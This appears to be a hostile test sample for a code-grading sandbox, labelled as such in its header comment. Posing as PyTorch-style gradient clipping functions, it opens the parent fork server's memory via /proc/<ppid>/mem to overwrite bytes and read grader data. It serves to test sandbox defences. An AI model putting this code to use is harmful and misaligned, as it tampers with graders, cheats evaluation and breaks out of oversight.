# HOSTILE: opens the fork server's memory read-write through /proc/<ppid>/mem (to read the
# graders' data or to patch the process that forks the other exercises).
# target: fundamentals/gradient_clipping
# expect: not allowed in a graded submission
# alone: grading sandbox
import os


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    with open(f"/proc/{os.getppid()}/mem", "r+b") as mem:
        mem.seek(0x400000)
        mem.write(b"\x00" * 16)
    return 0.0


def clip_grad_value_(parameters, clip_value):
    with open(f"/proc/{os.getppid()}/mem", "rb") as mem:
        return mem.read(64)
